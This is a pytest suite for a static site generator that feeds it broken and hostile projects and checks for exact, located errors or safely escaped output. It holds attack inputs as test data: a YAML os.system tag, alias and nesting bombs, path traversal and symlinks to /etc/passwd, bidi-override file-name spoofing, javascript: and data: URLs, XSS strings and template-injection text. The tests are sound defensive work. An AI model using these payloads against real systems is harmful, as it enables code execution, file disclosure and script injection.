"""A catalogue of broken projects: each gives its exact located error, or a safe site.

Every case starts from a small valid project whose site is already built, breaks
it in one way (files written, replaced or removed, a link made), runs
`frise build` in-process, and checks what an editor would see:
- the exact lines `path:line:col: error: message`, exit status 1, no traceback;
- the last good site left byte for byte as it was (nothing lost);
or, for the cases that must build, what the built site shows.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
from collections.abc import Callable
from dataclasses import dataclass
from html import escape
from pathlib import Path

import pytest
from click.testing import CliRunner

from generator.commands.cli import main
from generator.content.loader import MAX_FILE_BYTES
from generator.site import typography

SITE = "title: Attacks\n"
EVENT = "title: An event\ndate: 2020-05-01\nsummary: Something happened.\n"
BASE: dict[str, str | bytes] = {"content/site.yaml": SITE, "content/events/e.yaml": EVENT}
E = "content/events/e.yaml"


def event(extra: str = "", **fields: str) -> str:
    """An event file with some fields replaced (a value '' removes the field)."""
    values = {"title": "An event", "date": "2020-05-01", "summary": "Something happened."}
    values.update(fields)
    return "".join(f"{k}: {v}\n" for k, v in values.items() if v != "") + extra


Setup = Callable[[Path], None]


@dataclass(frozen=True)
class Case:
    """One broken project: files over the base project, and the errors expected."""

    name: str
    files: dict[str, str | bytes | None]
    errors: tuple[str, ...]
    setup: Setup | None = None
    output: str = "site"
    """The output folder the case's site.yaml asks for (to check it was not touched)."""
    keeps: tuple[str, ...] = ()
    """Files (paths in the project) that must survive the build byte for byte."""


def outside(root: Path) -> Path:
    """A folder next to the project (so outside it), for links that try to leave."""
    folder = root.parent / f"{root.name}-outside"
    folder.mkdir(exist_ok=True)
    return folder


def symlink(link: str, target: str) -> Setup:
    """Makes `link` (relative to the project) point at `target`, where `{outside}`
    stands for a folder outside the project."""
    def make(root: Path) -> None:
        path = root / link
        path.parent.mkdir(parents=True, exist_ok=True)
        path.symlink_to(target.format(outside=outside(root)))
    return make


def outside_file(name: str, text: str) -> Setup:
    def make(root: Path) -> None:
        (outside(root) / name).write_text(text, encoding="utf-8")
    return make


def remove(folder: str) -> Setup:
    def make(root: Path) -> None:
        shutil.rmtree(root / folder)
    return make


def both(*setups: Setup) -> Setup:
    def make(root: Path) -> None:
        for setup in setups:
            setup(root)
    return make


def replace_site_with(make_it: Callable[[Path], None]) -> Setup:
    """Removes the built site/ and puts something else in its place."""
    def make(root: Path) -> None:
        shutil.rmtree(root / "site")
        make_it(root / "site")
    return make


def _foreign_folder(site: Path) -> None:
    site.mkdir()
    (site / "thesis.txt").write_text("five years of work\n", encoding="utf-8")


def _is_file(site: Path) -> None:
    site.write_text("not a folder\n", encoding="utf-8")


def _site_link(site: Path) -> None:
    (site.parent / "elsewhere").mkdir()
    (site.parent / "elsewhere" / "keep.txt").write_text("keep\n", encoding="utf-8")
    site.symlink_to("elsewhere")


LATIN1 = "title: Caf\xe9 cr\xe8me\ndate: 2020\nsummary: S\n".encode("latin-1")
UTF16 = EVENT.encode("utf-16")
BOMB = ("a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
        "c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\nd: [*c, *c, *c, *c, *c, *c, *c, *c, *c]\n")
BIDI = "\u202e"
NFD_E = "e\u0301"

CASES: list[Case] = [
    # --- YAML syntax ----------------------------------------------------------------
    Case("unclosed-flow-list", {E: "title: [unclosed\ndate: 2020\nsummary: S\n"}, (
        f"{E}:1:8: error: the '[' opened here is not closed: end it with ']' on the same "
        "line, with ', ' between items; the line reads: title: [unclosed",)),
    Case("tab-indentation", {E: "title: a\n\tdate: 2020\n"}, (
        f"{E}:2:1: error: tabs are not allowed in YAML: indent with spaces; "
        "the line reads: date: 2020",)),
    Case("colon-in-plain-value", {E: event(title="Paris: a summit")}, (
        f"{E}:1:13: error: the value holds ': ', which YAML reads as a new key: put the "
        'whole value in quotes, e.g. title: "Paris: a summit"; '
        "the line reads: title: Paris: a summit",)),
    Case("unclosed-quote", {E: 'title: "abc\ndate: 2020\n'}, (
        f'{E}:1:8: error: the quote " opened here is never closed: end the value with "; '
        'the line reads: title: "abc',)),
    Case("duplicate-key", {E: event("title: A second title\n")}, (
        f"{E}:4:1: error: duplicate key 'title' (first written at line 1); "
        "YAML would silently keep only the last one",)),
    Case("anchor-and-alias", {E: event(title="&t An event", summary="*t")}, (
        f"{E}:1:8: error: YAML anchors ('&t') are not allowed: write the value out in full",
        f"{E}:3:10: error: YAML aliases ('*t') are not allowed: write the value out in full",
    )),
    Case("python-tag", {E: event(title="!!python/object/apply:os.system [echo pwned]")}, (
        f"{E}:1:8: error: YAML tags ('!!python/object/apply:os.system') are not allowed: "
        "remove the tag",)),
    Case("local-tag", {E: event(date="!date 2020")}, (
        f"{E}:2:7: error: YAML tags ('!date') are not allowed: remove the tag",)),
    Case("two-documents", {E: EVENT + "---\ntitle: Another\n"}, (
        f"{E}:4:1: error: a file holds one YAML document; remove the '---' and what follows",)),
    Case("list-as-key", {E: "? [a, b]\n: value\n" + EVENT}, (
        f"{E}:1:3: error: a key must be plain text, not a list or mapping",)),
    # 500 levels: below the limit some libyaml builds enforce themselves (1,000), so the
    # located error is frise's own whichever libyaml is installed.
    Case("nesting-bomb", {E: EVENT + "body: " + "[" * 500 + "]" * 500 + "\n"}, (
        f"{E}:4:26: error: lists and mappings are nested more than 20 levels deep",)),
    # --- encodings and characters -----------------------------------------------------
    Case("latin-1", {E: LATIN1}, (
        f"{E}:1:11: error: not UTF-8: byte 0xe9 cannot be decoded; save the file as UTF-8",)),
    Case("utf-16", {E: UTF16}, (f"{E}:1:1: error: the file is UTF-16; save it as UTF-8",)),
    Case("utf-16-without-bom", {E: EVENT.encode("utf-16-le")}, (
        f"{E}:1:2: error: control character U+0000 is not allowed in a YAML file; remove it "
        "(NUL bytes: is the file UTF-16? save it as UTF-8)",)),
    Case("nul-byte", {E: b"title: An\x00 event\ndate: 2020\nsummary: S\n"}, (
        f"{E}:1:10: error: control character U+0000 is not allowed in a YAML file; remove it "
        "(NUL bytes: is the file UTF-16? save it as UTF-8)",)),
    Case("raw-control-character", {E: "title: ok\nsummary: Bell\x07 here\ndate: 2020\n"}, (
        f"{E}:2:14: error: control character U+0007 is not allowed in a YAML file; "
        "remove it",)),
    Case("bidi-in-single-quoted-source-title", {"content/sources.yaml":
                                                f"s:\n  title: 'Memo {BIDI}txt.exe'\n"}, (
        "content/sources.yaml:2:16: error: 'title' contains a bidirectional override "
        "(U+202E); remove it",)),
    Case("bidi-in-block-body", {E: event(f"body: |\n  Line one\n  Line {BIDI}two\n")}, (
        f"{E}:4:7: error: 'body' contains a bidirectional override (U+202E); remove it",)),
    Case("escaped-control-in-title", {E: event(title='"Tab\\there"')}, (
        f"{E}:1:8: error: 'title' contains a control character (U+0009); remove it",)),
    Case("bidi-override-in-title", {E: event(title=f"Invoice {BIDI}fdp.exe")}, (
        f"{E}:1:16: error: 'title' contains a bidirectional override (U+202E); remove it",)),
    Case("bidi-isolate-in-actor-name", {
        "content/actors.yaml": "x:\n  name: Bad \u2067name\n  kind: person\n"}, (
        "content/actors.yaml:2:13: error: 'name' contains a bidirectional override (U+2067); "
        "remove it",)),
    Case("bidi-in-tag-label", {
        "content/tags.yaml": f"t:\n  label: \"A{BIDI}B\"\n", E: event("tags: [t]\n")}, (
        "content/tags.yaml:2:12: error: 'label' contains a bidirectional override (U+202E); "
        "remove it",)),
    Case("oversized-file", {E: EVENT + "body: " + "x" * MAX_FILE_BYTES + "\n"}, (
        f"{E}:1:1: error: file is {len(EVENT) + MAX_FILE_BYTES + 7:,} bytes; "
        f"the limit is {MAX_FILE_BYTES:,}",)),
    # --- schema -----------------------------------------------------------------------
    Case("misspelt-key", {E: event("titel: Typo\n")}, (
        f"{E}:4:1: error: unknown key 'titel' in an event: did you mean 'title'?",)),
    Case("missing-required", {E: "body: Only a body.\n"}, (
        f"{E}:1:1: error: an event needs 'date'",
        f"{E}:1:1: error: an event needs 'summary'",
        f"{E}:1:1: error: an event needs 'title'",
    )),
    Case("empty-title", {E: "title:\ndate: 2020\nsummary: S\n"}, (
        f"{E}:1:7: error: 'title' is empty",)),
    Case("blank-quoted-summary", {E: event(summary='"   "')}, (
        f"{E}:3:10: error: 'summary' is empty",)),
    Case("title-is-a-list", {E: event(title="[a, b]")}, (
        f"{E}:1:8: error: 'title' must be text, not a list",)),
    Case("featured-yes", {E: event("featured: yes\n")}, (
        f"{E}:4:11: error: 'featured' must be true or false, not 'yes'",)),
    Case("draft-quoted-true", {E: event('draft: "true"\n')}, (
        f"{E}:4:8: error: 'draft' must be true or false, not 'true'",)),
    Case("event-is-a-list", {E: "- a\n- b\n"}, (
        f"{E}:1:1: error: an event file must be a mapping of keys and values, not a list",)),
    Case("title-too-long", {E: event(title="x" * 301)}, (
        f"{E}:1:8: error: 'title' is 301 characters; keep it under 300",)),
    Case("site-missing", {"content/site.yaml": None}, (
        "content/site.yaml:1:1: error: content/site.yaml is missing",)),
    Case("site-empty", {"content/site.yaml": ""}, (
        "content/site.yaml:1:1: error: site.yaml is empty",)),
    Case("site-broken-yaml", {"content/site.yaml": "title: [x\n"}, (
        "content/site.yaml:1:8: error: the '[' opened here is not closed: end it with ']' "
        "on the same line, with ', ' between items; the line reads: title: [x",)),
    Case("no-events", {E: None}, (
        "content/events:1:1: error: no events: add a file such as "
        "content/events/2023-03-29-first-event.yaml",)),
    Case("actor-kind", {"content/actors.yaml": "x:\n  name: X\n  kind: persn\n"}, (
        "content/actors.yaml:3:9: error: kind 'persn' is not one of person, organisation, "
        "country, place: did you mean 'person'?",)),
    Case("site-language", {"content/site.yaml": SITE + "language: english\n"}, (
        "content/site.yaml:2:11: error: language 'english' is not a BCP 47 tag such as "
        "'fr' or 'en'",)),
    # --- dates ------------------------------------------------------------------------
    Case("february-30", {E: event(date="2023-02-30")}, (
        f"{E}:2:7: error: date '2023-02-30' is not a real day: February 2023 has 28 days",)),
    Case("month-13", {E: event(date="2023-13")}, (
        f"{E}:2:7: error: date '2023-13' has no month 13: months run from 01 to 12",)),
    Case("time-not-date", {E: event(date="12:30")}, (
        f"{E}:2:7: error: '12:30' is not a date: write YYYY, YYYY-MM or YYYY-MM-DD "
        "(e.g. 2023, 2023-03, 2023-03-29), optionally followed by ~, ? or %",)),
    Case("end-before-date", {E: event("end: 2019\n")}, (
        f"{E}:4:6: error: 'end' (2019) is before 'date' (2020-05-01)",)),
    Case("source-date", {E: event("sources:\n  - url: https://example.org/\n    title: T\n"
                                  "    date: 2023-02-29\n")}, (
        f"{E}:7:11: error: date '2023-02-29' is not a real day: February 2023 has 28 days",)),
    # --- references -------------------------------------------------------------------
    Case("unknown-tag", {"content/tags.yaml": "defense:\n  label: Defense\n",
                         E: event("tags: [defence]\n")}, (
        f"{E}:4:8: error: unknown tag 'defence': did you mean 'defense'? "
        "(tags are defined in content/tags.yaml)",)),
    Case("unknown-actor", {E: event("actors: [bob]\n")}, (
        f"{E}:4:10: error: unknown actor 'bob' (actors are defined in content/actors.yaml)",)),
    Case("unknown-source", {"content/sources.yaml": "notes:\n  title: Notes\n",
                            E: event("sources:\n  - source: note\n")}, (
        f"{E}:5:13: error: unknown source 'note': did you mean 'notes'?",)),
    Case("quote-not-in-text", {
        "content/sources.yaml": "notes:\n  title: Notes\n  text: sources/notes.txt\n",
        "content/sources/notes.txt": "What was said.\n",
        E: event("sources:\n  - source: notes\n    quote: What was not said.\n")}, (
        f"{E}:6:12: error: quote not found in the text of 'notes' (content/sources/notes.txt): "
        "copy the sentence exactly",)),
    Case("tag-listed-twice", {E: event("tags: [a, a]\n")}, (
        f"{E}:4:11: error: tag 'a' is listed twice",)),
    Case("tags-not-a-list", {E: event("tags: a, b\n")}, (
        f"{E}:4:7: error: 'tags' must be a list, e.g. [tag-a, tag-b]",)),
    # --- ids and paths ----------------------------------------------------------------
    Case("file-name-with-space", {"content/events/Bad Name.yaml": EVENT}, (
        "content/events/Bad Name.yaml:1:1: error: file name 'Bad Name' must be 1 to 80 "
        "characters of a-z, 0-9 and '-'; rename it to 'bad-name.yaml'",)),
    Case("file-name-nfd-accent", {f"content/events/caf{NFD_E}.yaml": EVENT}, (
        # the path as the file system spells it, so that editors can open it
        f"content/events/caf{NFD_E}.yaml:1:1: error: file name 'caf{NFD_E}' must be 1 to 80 "
        "characters of a-z, 0-9 and '-'; rename it to 'cafe.yaml'",)),
    Case("windows-device-name", {"content/events/con.yaml": EVENT}, (
        "content/events/con.yaml:1:1: error: file name 'con' is a name Windows reserves "
        "for a device; rename it to 'con-1.yaml'",)),
    Case("windows-device-upper-case", {"content/events/LPT1.yaml": EVENT}, (
        "content/events/LPT1.yaml:1:1: error: file name 'LPT1' must be 1 to 80 characters "
        "of a-z, 0-9 and '-'; rename it to 'lpt1-1.yaml'",)),
    Case("same-id-two-files", {"content/events/e.yml": EVENT}, (
        "content/events/e.yml:1:1: error: event id 'e' is also used by content/events/e.yaml; "
        "rename one of the files",)),
    Case("tag-slug-case", {"content/tags.yaml": "war:\n  label: War\nWar:\n  label: War\n"}, (
        "content/tags.yaml:3:1: error: id 'War' repeats the id 'war' of line 1 but for case "
        "or Unicode form; keep one of them",)),
    Case("tag-slug-nfd", {"content/tags.yaml": f"cafe:\n  label: A\ncaf{NFD_E}:\n  label: B\n"},
         ("content/tags.yaml:3:1: error: id 'caf\u00e9' in tags.yaml must be 1 to 80 "
          "characters of a-z, 0-9 and '-'; '\u00e9' (U+00E9 LATIN SMALL LETTER E WITH ACUTE) "
          "is not a-z: write 'cafe'",)),
    Case("actor-id-device", {"content/actors.yaml": "aux:\n  name: Aux\n  kind: place\n"}, (
        "content/actors.yaml:1:1: error: id 'aux' in actors.yaml is a name Windows reserves "
        "for a device; write 'aux-1'",)),
    Case("tag-with-slash", {E: event('tags: ["../../etc"]\n')}, (
        f"{E}:4:8: error: tag '../../etc' must be 1 to 80 characters of a-z, 0-9 and '-'; "
        "'.' is not allowed: write 'etc'",)),
    Case("text-traversal", {"content/sources.yaml":
                            "s:\n  title: S\n  text: ../../etc/passwd\n"}, (
        "content/sources.yaml:3:9: error: 'text' must be a path inside content/, "
        "not '../../etc/passwd'",)),
    Case("text-absolute", {"content/sources.yaml": "s:\n  title: S\n  text: /etc/passwd\n"}, (
        "content/sources.yaml:3:9: error: 'text' must be a path inside content/, "
        "not '/etc/passwd'",)),
    Case("text-hidden-traversal", {"content/sources.yaml":
                                   "s:\n  title: S\n  text: sources/../../site.yaml\n"}, (
        "content/sources.yaml:3:9: error: 'text' must be a path inside content/, "
        "not 'sources/../../site.yaml'",)),
    Case("event-symlink-out", {}, (
        "content/events/leak.yaml:1:1: error: symbolic link leads outside content/; refused",),
        setup=both(outside_file("x.yaml", EVENT),
                   symlink("content/events/leak.yaml", "{outside}/x.yaml"))),
    Case("events-folder-symlink-out", {E: None}, (
        "content/events/x.yaml:1:1: error: symbolic link leads outside content/; refused",),
        setup=both(outside_file("x.yaml", EVENT), remove("content/events"),
                   symlink("content/events", "{outside}"))),
    Case("source-text-symlink-out", {}, (
        "content/sources/passwd.txt:1:1: error: symbolic link leads outside content/; "
        "refused",), setup=symlink("content/sources/passwd.txt", "/etc/passwd")),
    Case("site-yaml-symlink-out", {"content/site.yaml": None}, (
        "content/site.yaml:1:1: error: symbolic link leads outside content/; refused",),
        setup=both(outside_file("site.yaml", SITE),
                   symlink("content/site.yaml", "{outside}/site.yaml"))),
    Case("symlink-loop", {}, (
        "content/events/loop.yaml:1:1: error: symbolic link is broken or loops; refused",),
        setup=symlink("content/events/loop.yaml", "loop.yaml")),
    Case("outputs-differ-by-case", {"templates/assets/Style.css": "body {}\n"}, (
        "error: two outputs would be written to 'assets/style.css'",)),
    Case("asset-file-and-folder", {"templates/assets/style.css/evil.css": "body {}\n"}, (
        "error: 'assets/style.css' would be both a file and a folder of the site",)),
    # --- URLs (XSS at the door; the payloads that pass are in tests/browser/test_xss.py)
    Case("javascript-source-url", {E: event("sources:\n  - url: javascript:alert(1)\n"
                                            "    title: T\n")}, (
        f"{E}:5:10: error: 'url' must be an absolute http, https or mailto URL, "
        "not 'javascript:alert(1)'",)),
    Case("mixed-case-javascript-actor-url", {
        "content/actors.yaml":
            "x:\n  name: X\n  kind: person\n  url: JaVaScRiPt://x/%0aalert(1)\n"}, (
        "content/actors.yaml:4:8: error: 'url' must be an absolute http, https or mailto URL, "
        "not 'JaVaScRiPt://x/%0aalert(1)'",)),
    Case("data-url", {"content/sources.yaml":
                      "s:\n  title: S\n  url: \"data:text/html,<script>alert(1)</script>\"\n"}, (
        "content/sources.yaml:3:8: error: 'url' must be an absolute http, https or mailto URL, "
        "not 'data:text/html,<script>alert(1)</script>'",)),
    Case("base-url-javascript", {"content/site.yaml": SITE + "base_url: javascript://x/\n"}, (
        "content/site.yaml:2:11: error: 'base_url' must be an http or https URL such as "
        "https://example.org/timeline/, not 'javascript://x/'",)),
    # --- the output folder --------------------------------------------------------------
    Case("output-dot", {"content/site.yaml": SITE + "output: .\n"}, (
        "content/site.yaml:2:9: error: 'output' '.' would overwrite the project's "
        "own files",)),
    Case("output-parent", {"content/site.yaml": SITE + "output: ..\n"}, (
        "content/site.yaml:2:9: error: 'output' '..' leaves the project; the output must lie "
        "inside it",)),
    Case("output-content", {"content/site.yaml": SITE + "output: content\n"}, (
        "content/site.yaml:2:9: error: 'output' 'content' would overwrite the project's "
        "own files",)),
    Case("output-content-other-case", {"content/site.yaml": SITE + "output: Content/\n"}, (
        "content/site.yaml:2:9: error: 'output' 'Content/' would overwrite the project's "
        "own files",)),
    Case("output-templates", {"content/site.yaml": SITE + "output: ./templates\n"}, (
        "content/site.yaml:2:9: error: 'output' './templates' would overwrite the project's "
        "own files",)),
    Case("output-inside-content", {"content/site.yaml": SITE + "output: content/site\n"}, (
        "content/site.yaml:2:9: error: 'output' 'content/site' cannot lie inside 'content/'",)),
    Case("output-round-trip", {"content/site.yaml": SITE + "output: site/../content\n"}, (
        "content/site.yaml:2:9: error: 'output' 'site/../content' would overwrite the project's "
        "own files",)),
    Case("output-absolute", {"content/site.yaml": SITE + "output: /var/www/site\n"}, (
        "content/site.yaml:2:9: error: 'output' '/var/www/site' must be a folder inside the "
        "project, not an absolute path",)),
    Case("output-windows-absolute", {"content/site.yaml": SITE + "output: 'C:\\site'\n"}, (
        "content/site.yaml:2:9: error: 'output' 'C:\\site' must be a folder inside the "
        "project, not an absolute path",)),
    Case("output-backslash-parent", {"content/site.yaml": SITE + "output: 'site\\..\\..'\n"}, (
        "content/site.yaml:2:9: error: 'output' 'site\\..\\..' leaves the project; the "
        "output must lie inside it",)),
    Case("output-git", {"content/site.yaml": SITE + "output: .git\n"}, (
        "content/site.yaml:2:9: error: 'output' '.git' cannot lie inside '.git/'",)),
    Case("output-frise-cache", {"content/site.yaml": SITE + "output: .frise-cache\n"}, (
        "content/site.yaml:2:9: error: 'output' '.frise-cache' is where frise keeps its own "
        "working files",)),
    Case("output-foreign-folder", {}, (
        "content/site.yaml:1:1: error: 'site' is not empty and was not made by frise; "
        "move its files away or choose another 'output'",),
        setup=replace_site_with(_foreign_folder), keeps=("site/thesis.txt",)),
    Case("output-holds-a-repository", {}, (
        "content/site.yaml:1:1: error: 'site/.git' is a repository inside the output folder, "
        "which each build replaces whole; move it out of the output folder",),
        setup=lambda root: (root / "site" / ".git").mkdir(),
        keeps=("site/.frise-output", "site/index.html")),
    Case("output-symlink-into-git", {"content/site.yaml": SITE + "output: pub\n"}, (
        "content/site.yaml:2:9: error: the output folder 'pub' leads to '.git/x', which cannot "
        "lie inside '.git/'",),
        setup=both(lambda root: (root / ".git" / "x").mkdir(parents=True),
                   symlink("pub", ".git/x")), output="pub"),
    Case("output-is-a-file", {}, (
        "content/site.yaml:1:1: error: 'site' exists and is not a folder",),
         setup=replace_site_with(_is_file), keeps=("site",)),
    Case("output-is-a-symlink", {}, (
        "content/site.yaml:1:1: error: the output folder 'site' is a symbolic link; remove it",),
        setup=replace_site_with(_site_link), keeps=("elsewhere/keep.txt",)),
    Case("output-through-symlink-out", {"content/site.yaml": SITE + "output: out/site\n"}, (
        "content/site.yaml:2:9: error: the output folder 'out/site' lies outside the project",),
        setup=symlink("out", "{outside}"), output="out/site"),
    Case("output-symlink-into-content", {"content/site.yaml": SITE + "output: pub\n"}, (
        "content/site.yaml:2:9: error: the output folder 'pub' leads to 'content/events', which "
        "cannot lie inside 'content/'",),
        setup=symlink("pub", "content/events"), output="pub"),
]


def _write(root: Path, files: dict[str, str | bytes | None]) -> None:
    for rel, data in files.items():
        target = root / rel
        if data is None:
            if target.is_file():
                target.unlink()
            continue
        target.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(data, bytes):
            target.write_bytes(data)
        else:
            target.write_text(data, encoding="utf-8")


def _snapshot(folder: Path) -> dict[str, bytes]:
    if not folder.is_dir() or folder.is_symlink():
        return {}
    return {p.relative_to(folder).as_posix(): p.read_bytes()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def _build(root: Path) -> tuple[int, list[str], str]:
    """Runs `frise build` in the project as an editor would: (status, stderr lines, stdout)."""
    cwd = Path.cwd()
    os.chdir(root)
    try:
        result = CliRunner().invoke(main, ["build", "--quiet"], catch_exceptions=True)
    finally:
        os.chdir(cwd)
    assert result.exception is None or isinstance(result.exception, SystemExit), (
        f"a traceback reached the user: {result.exception!r}")
    return result.exit_code, result.stderr.splitlines(), result.stdout


@pytest.fixture(scope="module")
def good(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The base project, built once: every case starts from a copy of it and its site."""
    root = tmp_path_factory.mktemp("good") / "project"
    root.mkdir()
    _write(root, dict(BASE))
    status, err, _ = _build(root)
    assert status == 0, err
    shutil.rmtree(root / ".frise-cache", ignore_errors=True)
    return root


def _case_project(good: Path, tmp_path: Path, case: Case) -> Path:
    root = tmp_path / "project"
    shutil.copytree(good, root, symlinks=True)
    _write(root, case.files)
    if case.setup:
        case.setup(root)
    return root


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.name)
def test_broken_project_gives_located_errors_and_loses_nothing(
        good: Path, tmp_path: Path, case: Case) -> None:
    root = _case_project(good, tmp_path, case)
    before = _snapshot(root / "site")
    kept = {rel: (root / rel).read_bytes() for rel in case.keeps}
    status, err, out = _build(root)
    assert status == 1
    n = len(case.errors)
    assert err == [*case.errors, f"{n} error{'s' if n != 1 else ''}; nothing was written"]
    assert "Traceback" not in out + "\n".join(err)
    assert _snapshot(root / "site") == before, "the last good site changed"
    assert {rel: (root / rel).read_bytes() for rel in case.keeps} == kept
    if case.output != "site":
        assert not (root / case.output).exists() or (root / case.output).is_symlink()
    leftovers = [p.name for p in root.iterdir() if p.name.startswith(".frise-tmp")]
    assert leftovers == []


def test_alias_bomb_is_refused_without_expanding(good: Path, tmp_path: Path) -> None:
    """libyaml reads the bomb as events; every anchor and alias is refused, none expanded."""
    root = _case_project(good, tmp_path, Case("bomb", {E: BOMB * 3}, ()))
    status, err, _ = _build(root)
    assert status == 1
    anchors = [e for e in err if "YAML anchors" in e]
    aliases = [e for e in err if "YAML aliases" in e]
    assert err[0] == f"{E}:1:4: error: YAML anchors ('&a') are not allowed: " \
                     "write the list out in full"
    assert len(anchors) == 3 * 3  # &a, &b, &c in each of three copies
    assert len(aliases) == 3 * 27
    assert len([e for e in err if "duplicate key" in e]) == 2 * 4


# --- cases that must build, and what they must show ---------------------------------------

def _built(good: Path, tmp_path: Path, files: dict[str, str | bytes | None]) -> Path:
    root = _case_project(good, tmp_path, Case("ok", files, ()))
    status, err, _ = _build(root)
    assert (status, err) == (0, [])
    return root / "site"


def _page(site: Path, rel: str = "events/e/index.html") -> str:
    return (site / rel).read_text(encoding="utf-8")


def test_yaml_1_1_values_stay_as_typed(good: Path, tmp_path: Path) -> None:
    site = _built(good, tmp_path, {E: event(title="no", summary="0755 on 12:30", date="2016")})
    page = _page(site)
    assert re.search(r"<h1[^>]*>no</h1>", page)
    assert "0755 on 12:30" in page
    assert "False" not in page and "493" not in page and "750" not in page


def test_octal_looking_year_is_a_year(good: Path, tmp_path: Path) -> None:
    site = _built(good, tmp_path, {E: event(date="0755")})
    assert 'datetime="0755"' in _page(site)


def test_utf8_bom_is_accepted(good: Path, tmp_path: Path) -> None:
    site = _built(good, tmp_path, {E: b"\xef\xbb\xbf" + event(title="Caf\u00e9").encode()})
    assert re.search("<h1[^>]*>Caf\u00e9</h1>", _page(site))


def test_decomposed_text_is_written_composed(good: Path, tmp_path: Path) -> None:
    site = _built(good, tmp_path, {E: event(title=f"Caf{NFD_E} cr{NFD_E}me")})
    page = _page(site)
    assert "Caf\u00e9 cr\u00e9me" in page
    assert "\u0301" not in page


def test_quotes_and_markup_in_plain_text_are_escaped_in_attributes(
        good: Path, tmp_path: Path) -> None:
    """Titles and quotes land in attribute values (meta content, cite); they stay inside.

    Typography curls quotes in text, so the summary keeps straight ones in code."""
    url = "https://example.org/a?b=1&c=\"x\"onmouseover='y'"
    site = _built(good, tmp_path, {E: event(
        summary="'A `\"quoted\"` <b>summary</b> & more'",
        extra=f"sources:\n  - url: {json.dumps(url)}\n    title: '\"><script>x</script>'\n"
              "    quote: '\" onmouseover=\"x'\n")})
    page = _page(site)
    assert '<meta name="description" content="A &#34;quoted&#34; summary &amp; more">' in page \
        or '<meta name="description" content="A &quot;quoted&quot; summary &amp; more">' in page
    assert 'cite="https://example.org/a?b=1&amp;c=&#34;x&#34;onmouseover=&#39;y&#39;"' in page
    assert "<script>x" not in page and "&lt;script&gt;x&lt;/script&gt;" in page
    assert "onmouseover=\"x" not in page


def test_markdown_links_that_lead_nowhere_are_errors_at_their_line(good: Path,
                                                                    tmp_path: Path) -> None:
    body = ("|\n  [a](javascript:alert(1)) [b](jav&#x09;ascript:alert(2)) "
            "[c](https://ok.example/) [d](mailto:x@example.org) [e](../../index.html)\n"
            "  <img src=x onerror=alert(3)>\n")
    root = _case_project(good, tmp_path, Case("links", {E: event(body=body)}, ()))
    status, err, _ = _build(root)
    assert status == 1
    assert err[:3] == [
        f"{E}:5:7: error: link 'javascript:alert(1)': 'javascript:' links are not allowed; link "
        "to an http, https or mailto address",
        f"{E}:5:32: error: link 'jav&#x09;ascript:alert(2)': 'jav&#x09;ascript:' links are not "
        "allowed; link to an http, https or mailto address",
        f"{E}:5:114: error: link '../../index.html' is not a full address: write an http, "
        "https or mailto URL, an anchor '#...', or 'event:<id>' to link to another event",
    ]


def test_markdown_keeps_only_safe_schemes() -> None:
    """The sanitiser stays as a second line behind the link check."""
    from generator.site.markdown import MarkdownConverter

    html = MarkdownConverter().block("[a](javascript:alert(1)) [c](https://ok.example/) "
                          "<img src=x onerror=alert(3)>")
    assert "javascript" not in html.lower() and "onerror" not in html and "<img" not in html
    assert 'href="https://ok.example/"' in html


JINJA = "{{ 'ev' ~ 'aluated' }} {% for x in 'ab' %}loop{% endfor %} {# kept #}"
"""Template syntax that Jinja would turn into `evaluated looploop` and a comment it drops."""


def test_template_syntax_in_content_is_shown_as_typed_never_evaluated(
        good: Path, tmp_path: Path) -> None:
    """Content never goes through Jinja: in every text an editor writes, `{{ }}`, `{% %}`
    and `{# #}` are shown as typed, on every page and in every file of the site."""
    def text(field: str) -> str:
        return json.dumps(f"{field} {JINJA}")

    site = _built(good, tmp_path, {
        "content/site.yaml": f"title: {text('site-title')}\n"
                             f"description: {text('site-description')}\n"
                             f"author: {text('site-author')}\n",
        "content/tags.yaml": f"t:\n  label: {text('tag-label')}\n"
                             f"  description: {text('tag-description')}\n",
        "content/actors.yaml": f"a:\n  name: {text('actor-name')}\n  kind: person\n"
                               f"  role: {text('actor-role')}\n"
                               f"  aliases: [{text('actor-alias')}]\n",
        E: event(title=text("event-title"), summary=text("event-summary"),
                 extra=f"body: {text('event-body')}\nnote: {text('event-note')}\n"
                       "tags: [t]\nactors: [a]\n"
                       f"sources:\n  - url: https://example.org/\n"
                       f"    title: {text('source-title')}\n"
                       f"    publisher: {text('source-publisher')}\n"
                       f"    author: {text('source-author')}\n"
                       f"    quote: {text('source-quote')}\n")})
    files = {p.relative_to(site).as_posix(): p.read_text(encoding="utf-8")
             for p in sorted(site.rglob("*")) if p.is_file() and p.suffix != ".svg"}
    evaluated = [path for path, data in files.items()
                 if "evaluated" in data or "looploop" in data]
    assert evaluated == []

    def shown(field: str, page: str) -> bool:
        """The field's text, typeset and escaped as the page needs, with its template
        syntax and its comment as typed."""
        data = files[page].replace("&#34;", '"').replace("&#39;", "'").replace("&quot;", '"')
        return re.search(re.escape(field) + r" \{\{ \S+ev\S+ ~ \S+aluated\S+ \}\} "
                         r"\{% for x in \S+ab\S+ %\}loop\{% endfor %\} \{# kept #\}",
                         data) is not None

    expected = {
        "events/e/index.html": [
            "site-title", "site-author", "event-title", "event-summary", "event-body",
            "event-note", "tag-label", "actor-name", "source-title", "source-publisher",
            "source-author", "source-quote"],
        "index.html": ["site-title", "site-description", "event-title", "event-summary"],
        "tags/t/index.html": ["tag-label", "tag-description", "event-title"],
        "actors/a/index.html": ["actor-name", "actor-role", "event-title"],
        "feed.xml": ["site-title", "event-title", "event-summary"],
        "events.json": ["event-title", "event-summary", "event-body", "event-note",
                        "source-title", "source-quote", "tag-label", "actor-name"],
        "events.csv": ["event-title", "tag-label"],
        "assets/search-index.js": ["event-title"],
    }
    missing = {page: [f for f in fields if not shown(f, page)]
               for page, fields in expected.items()}
    assert missing == {page: [] for page in expected}


def test_output_folder_made_by_frise_is_replaced(good: Path, tmp_path: Path) -> None:
    """The marker says frise made it: a rebuild replaces it whole (a stale page goes)."""
    root = _case_project(good, tmp_path, Case("ok", {}, ()))
    (root / "site" / "stale.html").write_text("old\n", encoding="utf-8")
    status, err, _ = _build(root)
    assert (status, err) == (0, [])
